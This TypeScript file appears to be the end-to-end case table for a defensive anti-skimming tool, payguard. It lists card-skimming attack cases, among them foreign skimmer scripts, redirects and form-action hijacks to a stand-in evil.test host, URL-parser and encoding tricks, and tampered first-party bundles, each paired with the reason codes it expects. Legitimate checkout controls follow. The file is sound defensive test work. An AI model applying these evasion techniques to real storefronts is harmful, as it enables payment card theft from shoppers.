/**
 * The case table: every attack and every legitimate page the suite replays in Chromium.
 * A case is a page under test/e2e/cases/ (open it in a browser to see the attack) plus this small
 * spec: what the storefront sends, what the shopper types and clicks, and what success means.
 * Vector ids (F-05, S-09, E-03…) refer to /work/shared/research/evasion-vectors.md.
 */
import type { ReasonCode } from '../../src/reasons.js';
import type { StorefrontResponse } from './storefront.js';
import { CARD_NUMBER, EVIL_HOST, GATEWAY_HOST, SHOP_HOST } from './world.js';

/** What proves, in the run without payguard, that the attack works (or the case is broken). */
export type AttackProof =
  /** The card number reached an attacker host (in a body or a URL). */
  | 'card'
  /** The attacker's code ran: its beacon reached `evil.test/ran`. */
  | 'script-ran'
  /** The browser sent a request to an attacker host (a preload, a frame, a CONNECT for https). */
  | 'foreign-request';

/** How the shopper submits: click a button, press a key in a field, or do nothing. */
export type Submit = { readonly click: string } | { readonly press: string; readonly key: string } | 'none';

/** A request a legitimate page must cause (the hosted fields frame, the submission to the gateway). */
export interface ExpectedRequest {
  readonly host: string;
  readonly method?: string;
  /** Path without the query. */
  readonly path: string;
  /** The card number must be in it (the submission reached the gateway with the card). */
  readonly card?: boolean;
}

interface CaseBase {
  readonly id: string;
  readonly title: string;
  /** Research ids of the vectors the case covers. */
  readonly vectors: string;
  /**
   * What the storefront serves, by path. The browser opens `/cases/<id>`; when that path is not
   * listed, it is the page `<id>.html` with `text/html; charset=utf-8`.
   */
  readonly responses?: Readonly<Record<string, StorefrontResponse>>;
  /** Fields to fill (selector → value); default: `#card` gets the card number. */
  readonly fill?: Readonly<Record<string, string>>;
  /** Default: click `#pay`. */
  readonly submit?: Submit;
}

export interface AttackCase extends CaseBase {
  readonly kind: 'attack';
  readonly proof: AttackProof;
  /**
   * The reason codes the block-mode verdict may carry for this case's one blocked response. More
   * than one when the page has several violations and payguard may name any of them.
   */
  readonly reasons: readonly ReasonCode[];
}

export interface LegitCase extends CaseBase {
  readonly kind: 'legit';
  /** Markers the allowed scripts push onto `window.__markers` (read before submitting). */
  readonly markers: readonly string[];
  /** Requests that must happen: the submission, frames. */
  readonly reaches: readonly ExpectedRequest[];
}

export type E2ECase = AttackCase | LegitCase;

export const DEFAULT_FILL: Readonly<Record<string, string>> = { '#card': CARD_NUMBER };
export const DEFAULT_SUBMIT: Submit = { click: '#pay' };

const FORM_PAGE: StorefrontResponse = { file: 'lookalike-action.html' };
const TO_GATEWAY: ExpectedRequest = { host: GATEWAY_HOST, method: 'POST', path: '/pay', card: true };
const HTML_PLAIN = (file: string, extra: Partial<StorefrontResponse> = {}): StorefrontResponse => ({ file, ...extra });
/** A script file of the shop (the suite policy's release manifest lists the released ones: payguard.ts). */
const SHOP_SCRIPT = (file: string): StorefrontResponse => ({ file, contentType: 'text/javascript; charset=utf-8' });

const attacks: readonly AttackCase[] = [
  // --- The 2019 incident and its navigation variants -------------------------------------------
  { kind: 'attack', id: 'lookalike-action', title: '2019: card form action changed to a look-alike gateway that bounces to the real one', vectors: 'F-01, §11.13', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'redirect-302', title: '302 from the payment step to a fake payment page', vectors: 'N-01, §11.13', proof: 'card', reasons: ['foreign-navigation'],
    responses: { '/cases/redirect-302': { status: 302, headers: [['Location', `http://${EVIL_HOST}/pay`]], contentType: null } } },
  { kind: 'attack', id: 'redirect-302-backslash', title: '302 with Location /\\evil (WHATWG: a host, not a path)', vectors: 'N-01, U-02', proof: 'card', reasons: ['foreign-navigation'],
    responses: { '/cases/redirect-302-backslash': { status: 302, headers: [['Location', `/\\${EVIL_HOST}/pay`]], contentType: null } } },
  { kind: 'attack', id: 'meta-refresh', title: '<meta http-equiv=refresh> to a fake payment page', vectors: 'N-02', proof: 'card', reasons: ['foreign-navigation'] },
  { kind: 'attack', id: 'meta-refresh-comma', title: 'meta refresh "0, URL" (comma separator, no url=)', vectors: 'N-02', proof: 'card', reasons: ['foreign-navigation'] },
  { kind: 'attack', id: 'meta-refresh-svg', title: 'meta refresh inside <svg> (meta breaks out of foreign content)', vectors: 'N-02, P-08', proof: 'card', reasons: ['foreign-navigation'] },
  { kind: 'attack', id: 'refresh-header', title: 'Refresh response header to a fake payment page', vectors: 'N-03', proof: 'card', reasons: ['foreign-navigation'],
    responses: { '/cases/refresh-header': HTML_PLAIN('checkout-clean.html', { headers: [['Refresh', `0;url=http://${EVIL_HOST}/pay`]] }) } },
  { kind: 'attack', id: 'redirect-307-post', title: 'the card POST answered by a 307 to a foreign host (the browser re-sends the body)', vectors: 'N-01, S-19', proof: 'card', reasons: ['foreign-navigation'],
    responses: {
      '/cases/redirect-307-post': HTML_PLAIN('redirect-307-post.html'),
      '/cases/redirect-307-post/pay': { status: 307, headers: [['Location', `http://${EVIL_HOST}/collect`]], contentType: null },
    } },
  { kind: 'attack', id: 'post-response-autosubmit', title: 'the answer to the checkout POST auto-submits the card to a foreign host', vectors: 'N-05, M-07', proof: 'card', reasons: ['foreign-form-action', 'inline-code'],
    responses: {
      '/cases/post-response-autosubmit': HTML_PLAIN('post-response-autosubmit.html'),
      '/cases/post-response-autosubmit/confirm': HTML_PLAIN('post-response-autosubmit-confirm.html', { echoCard: true }),
    } },
  // --- Foreign code -----------------------------------------------------------------------------
  { kind: 'attack', id: 'script-classic', title: 'skimmer <script src> from a foreign host', vectors: 'S-01, §11.9', proof: 'card', reasons: ['foreign-script'] },
  { kind: 'attack', id: 'script-module', title: 'skimmer <script type=module src> from a foreign host', vectors: 'S-02', proof: 'card', reasons: ['foreign-script'] },
  { kind: 'attack', id: 'script-svg', title: 'skimmer loaded by an SVG <script href>', vectors: 'S-06, §11.4', proof: 'card', reasons: ['foreign-script'] },
  { kind: 'attack', id: 'script-svg-xlink', title: 'skimmer loaded by an SVG <script xlink:href>', vectors: 'S-06', proof: 'card', reasons: ['foreign-script'] },
  { kind: 'attack', id: 'script-in-table', title: 'skimmer <script src> inside a table, after </html>', vectors: 'S-01, P-07', proof: 'card', reasons: ['foreign-script'] },
  { kind: 'attack', id: 'preload-script', title: '<link rel=preload as=script> to a foreign host', vectors: 'S-10', proof: 'foreign-request', reasons: ['foreign-script'], submit: 'none' },
  { kind: 'attack', id: 'modulepreload', title: '<link rel=modulepreload> to a foreign host', vectors: 'S-10', proof: 'foreign-request', reasons: ['foreign-script'], submit: 'none' },
  { kind: 'attack', id: 'link-header-preload', title: 'Link: rel=preload response header to a foreign script', vectors: 'H-10', proof: 'foreign-request', reasons: ['foreign-link-header', 'foreign-script'], submit: 'none',
    responses: { '/cases/link-header-preload': HTML_PLAIN('checkout-clean.html', { headers: [['Link', `<http://${EVIL_HOST}/skim.js>; rel=preload; as=script`]] }) } },
  // --- Passive loads (issue 17 class 2): beacons that run no code ------------------------------
  { kind: 'attack', id: 'image-beacon', title: '<img> beacon to a foreign host', vectors: 'X-01', proof: 'foreign-request', reasons: ['foreign-image'], submit: 'none', fill: {} },
  { kind: 'attack', id: 'srcset-odd-commas', title: 'srcset candidate between leading and trailing commas', vectors: 'X-01', proof: 'foreign-request', reasons: ['foreign-image'], submit: 'none', fill: {} },
  { kind: 'attack', id: 'css-url-escapes', title: 'CSS url() beacon spelled with CSS escapes in a <style>', vectors: 'S-14, X-01', proof: 'foreign-request', reasons: ['foreign-image'], submit: 'none', fill: {} },
  { kind: 'attack', id: 'link-header-image-preload', title: 'Link: rel=preload; as=image response header to a foreign host', vectors: 'H-10, X-01', proof: 'foreign-request', reasons: ['foreign-link-header'], submit: 'none', fill: {},
    responses: { '/cases/link-header-image-preload': HTML_PLAIN('checkout-clean.html', { headers: [['Link', `<http://${EVIL_HOST}/pixel.gif?page=checkout>; rel=preload; as=image`]] }) } },
  { kind: 'attack', id: 'import-map', title: 'import map remaps an allowed module\'s URL-like import to the skimmer', vectors: 'S-09', proof: 'script-ran', reasons: ['import-map', 'inline-code'] },
  { kind: 'attack', id: 'data-url-script', title: '<script src="data:…"> runs with the page\'s origin', vectors: 'S-07', proof: 'script-ran', reasons: ['data-url-code'] },
  { kind: 'attack', id: 'base-script', title: '<base href> to a foreign host makes a relative script foreign', vectors: 'F-10, S-01', proof: 'card', reasons: ['foreign-base', 'foreign-script'] },
  // --- Frames -----------------------------------------------------------------------------------
  { kind: 'attack', id: 'fake-card-iframe', title: 'fake card iframe from a foreign host', vectors: 'S-08, X-07', proof: 'foreign-request', reasons: ['foreign-frame'], submit: 'none', fill: {} },
  { kind: 'attack', id: 'embed-frame', title: '<embed src> document from a foreign host', vectors: 'S-08', proof: 'foreign-request', reasons: ['foreign-frame'], submit: 'none', fill: {} },
  { kind: 'attack', id: 'iframe-javascript-url', title: '<iframe src="javascript:…"> runs code in the page origin', vectors: 'S-05', proof: 'script-ran', reasons: ['javascript-url', 'inline-code'], submit: 'none', fill: {} },
  { kind: 'attack', id: 'object-frame', title: '<object data> document from a foreign host', vectors: 'S-08', proof: 'foreign-request', reasons: ['foreign-frame'], submit: 'none', fill: {} },
  { kind: 'attack', id: 'select-iframe', title: 'relaxed <select> holding a foreign iframe (parse5 drops it, Chromium loads it)', vectors: 'P-01', proof: 'foreign-request', reasons: ['foreign-frame'], submit: 'none', fill: {} },
  // --- Inline code ------------------------------------------------------------------------------
  { kind: 'attack', id: 'inline-skimmer', title: 'inline skimmer posts the card on submit', vectors: 'S-03, §11.9', proof: 'card', reasons: ['inline-code'] },
  { kind: 'attack', id: 'runtime-action-rewrite', title: 'inline code rewrites the form action to the look-alike at submit time', vectors: 'S-03, P-11', proof: 'card', reasons: ['inline-code'] },
  { kind: 'attack', id: 'handler-onerror', title: 'skimmer in an <img onerror> handler', vectors: 'S-04', proof: 'script-ran', reasons: ['inline-code'], submit: 'none', fill: {} },
  { kind: 'attack', id: 'handler-svg-onload', title: 'skimmer in an <svg onload> handler (the 2020 SVG social icons)', vectors: 'S-04, §11.4', proof: 'script-ran', reasons: ['inline-code'], submit: 'none', fill: {} },
  { kind: 'attack', id: 'javascript-action', title: 'form action="javascript:…" sends the card', vectors: 'F-11, S-05', proof: 'card', reasons: ['javascript-url', 'inline-code'] },
  // --- Form association evasions ----------------------------------------------------------------
  { kind: 'attack', id: 'formaction-button', title: 'formaction on the pay button overrides the gateway action', vectors: 'F-05', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'form-attribute', title: 'form= attribute hands the card field and button to a foreign form', vectors: 'F-06', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'table-form-pointer', title: '<table><form>: the form element pointer owns controls outside the form', vectors: 'F-07, P-07', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'div-form-pointer', title: '<div><form></div><input>: </div> does not clear the form element pointer', vectors: 'F-07', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'nested-forms', title: 'a foreign outer form swallows the gateway form (nested <form> ignored)', vectors: 'F-08', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'base-after-form', title: '<base href> after the form retargets its relative action', vectors: 'F-10', proof: 'card', reasons: ['foreign-base', 'foreign-form-action'] },
  { kind: 'attack', id: 'select-formaction', title: 'relaxed <select> hides a default button with a foreign formaction (Enter submits through it)', vectors: 'P-01, F-05', proof: 'card', reasons: ['foreign-form-action'],
    submit: { press: '#card', key: 'Enter' } },
  { kind: 'attack', id: 'shadow-dom-form', title: 'declarative shadow DOM form posting to the look-alike', vectors: 'P-03, F-09', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'method-dialog-formmethod', title: 'method=dialog form made to POST by formmethod on the button', vectors: 'F-12', proof: 'card', reasons: ['foreign-form-action'] },
  // --- URL tricks (WHATWG URL parser, page is http://shop.test) --------------------------------
  { kind: 'attack', id: 'url-protocol-relative', title: 'action="//pay-gateway.test/pay"', vectors: 'U-01', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'url-slash-backslash', title: 'action="/\\pay-gateway.test/pay"', vectors: 'U-02', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'url-scheme-backslashes', title: 'action="http:\\\\pay-gateway.test\\pay"', vectors: 'U-04', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'url-other-scheme-relative', title: 'action="https:pay-gateway.test/pay" on an http page (another scheme: a host, not a path)', vectors: 'U-11c', proof: 'foreign-request', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'url-tab-newline', title: 'action with a tab in the scheme and a newline in the host', vectors: 'U-07', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'url-userinfo', title: 'action="http://localhost@pay-gateway.test/pay"', vectors: 'U-08', proof: 'card', reasons: ['foreign-form-action'] },
  { kind: 'attack', id: 'url-entities', title: 'action spelled with character references', vectors: 'F-04', proof: 'card', reasons: ['foreign-form-action'] },
  // --- Encodings and HTTP -----------------------------------------------------------------------
  { kind: 'attack', id: 'gzip-lookalike', title: 'the 2019 page, gzip-encoded', vectors: 'H-01', proof: 'card', reasons: ['foreign-form-action'],
    responses: { '/cases/gzip-lookalike': { ...FORM_PAGE, encoding: ['gzip'] } } },
  { kind: 'attack', id: 'br-lookalike', title: 'the 2019 page, br-encoded', vectors: 'H-01', proof: 'card', reasons: ['foreign-form-action'],
    responses: { '/cases/br-lookalike': { ...FORM_PAGE, encoding: ['br'] } } },
  { kind: 'attack', id: 'gzip-stacked', title: 'the 2019 page, gzip then br (stacked codings)', vectors: 'H-02', proof: 'card', reasons: ['foreign-form-action', 'unsupported-content-coding'],
    responses: { '/cases/gzip-stacked': { ...FORM_PAGE, encoding: ['gzip', 'br'] } } },
  { kind: 'attack', id: 'shift-jis-lookalike', title: 'a Shift_JIS checkout (charset in the header) posting to the look-alike', vectors: 'E-04, §11.13', proof: 'card', reasons: ['foreign-form-action'],
    responses: { '/cases/shift-jis-lookalike': { file: 'shift-jis-lookalike.html', contentType: 'text/html; charset=Shift_JIS' } } },
  { kind: 'attack', id: 'duplicate-content-type', title: 'Content-Type: text/plain then text/html (the browser takes the last)', vectors: 'M-01', proof: 'card', reasons: ['foreign-form-action', 'ambiguous-header'],
    responses: { '/cases/duplicate-content-type': { ...FORM_PAGE, headers: [['Content-Type', 'text/plain'], ['Content-Type', 'text/html']] } } },
  { kind: 'attack', id: 'content-type-lenient', title: 'Content-Type "text/html garbage" on a page that does not start with a tag (Chromium reads text/html, Fetch finds no type)', vectors: 'M-01', proof: 'card', reasons: ['foreign-form-action'],
    responses: { '/cases/content-type-lenient': { file: 'content-type-lenient.html', contentType: 'text/html garbage' } } },
  // _coding-identity-listed.gz is the clean checkout gzipped, with a <script src> in the gzip
  // header's comment field: Chromium does not decode a coding list that names identity and renders
  // the raw bytes, where the comment is live markup (docs/headers.md "Content-Encoding").
  { kind: 'attack', id: 'coding-identity-listed', title: 'Content-Encoding "gzip, identity": a clean page inside, a live script in the gzip header', vectors: 'H-02', proof: 'foreign-request', reasons: ['unsupported-content-coding'], submit: 'none', fill: {},
    responses: { '/cases/coding-identity-listed': { file: '_coding-identity-listed.gz', headers: [['Content-Encoding', 'gzip, identity']] } } },
  { kind: 'attack', id: 'missing-content-type', title: 'no Content-Type: Chromium sniffs HTML', vectors: 'M-02', proof: 'card', reasons: ['foreign-form-action', 'unsupported-document-type'],
    responses: { '/cases/missing-content-type': { ...FORM_PAGE, contentType: null } } },
  { kind: 'attack', id: 'bom-beats-header', title: 'UTF-16LE body with a BOM under a windows-1252 header (the BOM wins)', vectors: 'E-01', proof: 'card', reasons: ['foreign-form-action', 'encoding-mismatch', 'undecodable-body'],
    responses: { '/cases/bom-beats-header': { file: 'bom-beats-header.html', contentType: 'text/html; charset=windows-1252' } } },
  { kind: 'attack', id: 'iso-2022-jp-quotes', title: '<meta charset=iso-2022-jp> swallows a quote and brings a hidden form to life', vectors: 'E-03', proof: 'card', reasons: ['foreign-form-action', 'encoding-mismatch', 'unknown-encoding'],
    responses: { '/cases/iso-2022-jp-quotes': { file: 'iso-2022-jp-quotes.html', contentType: 'text/html' } } },
  { kind: 'attack', id: 'not-found-skimmer', title: 'a 404 page carrying the skimmer script', vectors: 'M-07', proof: 'card', reasons: ['foreign-script'],
    responses: { '/cases/not-found-skimmer': { file: 'not-found-skimmer.html', status: 404 } } },
  // --- First-party code (issue 17 class 3): the shop's own files, checked against the release manifest
  { kind: 'attack', id: 'first-party-skimmed-copy', title: 'a skimmed copy of the shop bundle under a new hashed name on the shop itself, the page pointed at it', vectors: 'S-20', proof: 'card', reasons: ['unlisted-first-party-script'],
    responses: { '/js/checkout.7c1d2e.js': SHOP_SCRIPT('_shop-skimmed.js') } },
  { kind: 'attack', id: 'first-party-tampered-file', title: 'the shop bundle modified at its released path, named with a query string', vectors: 'S-20', proof: 'card', reasons: ['tampered-script'],
    responses: { '/js/bundle.js': SHOP_SCRIPT('_shop-skimmed.js') } },
  { kind: 'attack', id: 'first-party-module-import', title: "a released module's static import './bundle.js?lang=en' of the modified bundle", vectors: 'S-20', proof: 'card', reasons: ['tampered-script'],
    responses: { '/js/shop-module.mjs': SHOP_SCRIPT('_shop-module.mjs') } },
  // --- Data that clean code turns into a navigation (issue 17 class 4): the shop's own inline script,
  // allowed by hash (legit-carried-urls has it too), follows whatever URL its data names.
  { kind: 'attack', id: 'carried-data-attribute', title: 'data-payment-url="//evil.test/pay" followed by the shop\'s own code', vectors: 'N-06', proof: 'foreign-request', reasons: ['unlisted-url'] },
  { kind: 'attack', id: 'carried-hidden-input', title: 'a hidden input\'s value HTTP://EVIL.TEST/pay followed by the shop\'s own code', vectors: 'N-06', proof: 'foreign-request', reasons: ['unlisted-url'] },
  { kind: 'attack', id: 'carried-json-ld', title: 'JSON-LD potentialAction.target "http:\\/\\/evil.test\\/pay" followed by the shop\'s own code', vectors: 'N-06', proof: 'foreign-request', reasons: ['unlisted-url'] },
  { kind: 'attack', id: 'carried-css-property', title: 'a CSS custom property --payment-url read with getComputedStyle and followed', vectors: 'N-06', proof: 'foreign-request', reasons: ['unlisted-url', 'foreign-image'] },
];

const legit: readonly LegitCase[] = [
  { kind: 'legit', id: 'legit-checkout', title: 'checkout posting to the gateway, CDN and first-party scripts', vectors: '—', markers: ['cdn-app', 'shop-js'], reaches: [TO_GATEWAY] },
  { kind: 'legit', id: 'legit-shift-jis-checkout', title: 'Japanese checkout in Shift_JIS posting to the gateway', vectors: 'E-04', markers: ['cdn-app'], reaches: [TO_GATEWAY],
    responses: { '/cases/legit-shift-jis-checkout': { file: 'legit-shift-jis-checkout.html', contentType: 'text/html; charset=Shift_JIS' } } },
  { kind: 'legit', id: 'legit-shift-jis-meta', title: 'Japanese checkout in Shift_JIS declared only by <meta charset>', vectors: 'E-02', markers: ['cdn-app'], reaches: [TO_GATEWAY],
    responses: { '/cases/legit-shift-jis-meta': { file: 'legit-shift-jis-checkout.html', contentType: 'text/html' } } },
  { kind: 'legit', id: 'legit-tokenizer', title: 'tokenizer script and hosted-field iframe from the gateway', vectors: 'S-19', markers: ['tokenizer'],
    reaches: [{ host: GATEWAY_HOST, method: 'GET', path: '/fields' }, { host: GATEWAY_HOST, method: 'POST', path: '/tokens', card: true }, { host: SHOP_HOST, method: 'POST', path: '/order' }] },
  { kind: 'legit', id: 'legit-cart', title: 'cart form posting to the shop itself', vectors: 'F-02', markers: ['shop-js'], fill: { '#qty': '2' }, submit: { click: '#update' },
    reaches: [{ host: SHOP_HOST, method: 'POST', path: '/cart' }] },
  { kind: 'legit', id: 'legit-login', title: 'login form posting to the shop itself', vectors: '—', markers: [], fill: { '#email': 'shopper@example.com', '#password': 'correct horse' }, submit: { click: '#login' },
    reaches: [{ host: SHOP_HOST, method: 'POST', path: '/login' }] },
  { kind: 'legit', id: 'legit-search', title: 'search form (GET) to the shop itself', vectors: '—', markers: [], fill: { '#q': 'tea cup' }, submit: { press: '#q', key: 'Enter' },
    reaches: [{ host: SHOP_HOST, method: 'GET', path: '/search' }] },
  { kind: 'legit', id: 'legit-carried-urls', title: 'payment page URL in data-*, schema.org JSON-LD, a social link, og:image: the shop code goes to the gateway', vectors: 'N-06', markers: ['cdn-app'],
    reaches: [{ host: GATEWAY_HOST, method: 'GET', path: '/pay' }] },
  { kind: 'legit', id: 'legit-json-ld', title: 'product page with JSON-LD and a checkout to the gateway', vectors: 'S-02', markers: ['cdn-app'], reaches: [TO_GATEWAY] },
  { kind: 'legit', id: 'legit-links-images', title: 'links, images and a stylesheet from other origins', vectors: 'X-01', markers: ['cdn-app'], reaches: [TO_GATEWAY] },
  { kind: 'legit', id: 'legit-module', title: 'module script from the CDN importing a sibling module', vectors: 'S-09', markers: ['cdn-module', 'cdn-lib'], reaches: [TO_GATEWAY] },
  { kind: 'legit', id: 'legit-inline-hashed', title: 'inline script whose hash the policy allows', vectors: 'S-03', markers: ['inline-ok'], reaches: [TO_GATEWAY] },
  { kind: 'legit', id: 'legit-gzip', title: 'checkout, gzip-encoded', vectors: 'H-01', markers: ['cdn-app', 'shop-js'], reaches: [TO_GATEWAY],
    responses: { '/cases/legit-gzip': { file: 'legit-checkout.html', encoding: ['gzip'] } } },
  { kind: 'legit', id: 'legit-br', title: 'checkout, br-encoded', vectors: 'H-01', markers: ['cdn-app', 'shop-js'], reaches: [TO_GATEWAY],
    responses: { '/cases/legit-br': { file: 'legit-checkout.html', encoding: ['br'] } } },
  { kind: 'legit', id: 'legit-redirect-gateway', title: '302 to the gateway\'s hosted payment page', vectors: 'N-01', markers: [], reaches: [TO_GATEWAY],
    responses: { '/cases/legit-redirect-gateway': { status: 302, headers: [['Location', `http://${GATEWAY_HOST}/pay`]], contentType: null } } },
  { kind: 'legit', id: 'legit-not-found', title: 'a 404 page with the shop\'s scripts and a link home', vectors: 'M-07', markers: ['cdn-app'], submit: 'none', fill: {}, reaches: [],
    responses: { '/cases/legit-not-found': { file: 'legit-not-found.html', status: 404 } } },
];

export const CASES: readonly E2ECase[] = [...attacks, ...legit];

/** The path the browser opens for a case. */
export function entryPath(c: E2ECase): string {
  return `/cases/${c.id}`;
}

/** Every storefront path of every case (entry pages default to `<id>.html`). */
export function storefrontPages(cases: readonly E2ECase[]): Map<string, StorefrontResponse> {
  const pages = new Map<string, StorefrontResponse>();
  for (const c of cases) {
    pages.set(entryPath(c), { file: `${c.id}.html` });
    for (const [path, response] of Object.entries(c.responses ?? {})) pages.set(path, response);
  }
  return pages;
}

/** The page files a case serves (what a person opens to see it). */
export function pageFiles(c: E2ECase): string[] {
  const pages = storefrontPages([c]);
  return [...new Set([...pages.values()].flatMap((r) => (r.file ? [r.file] : [])))];
}
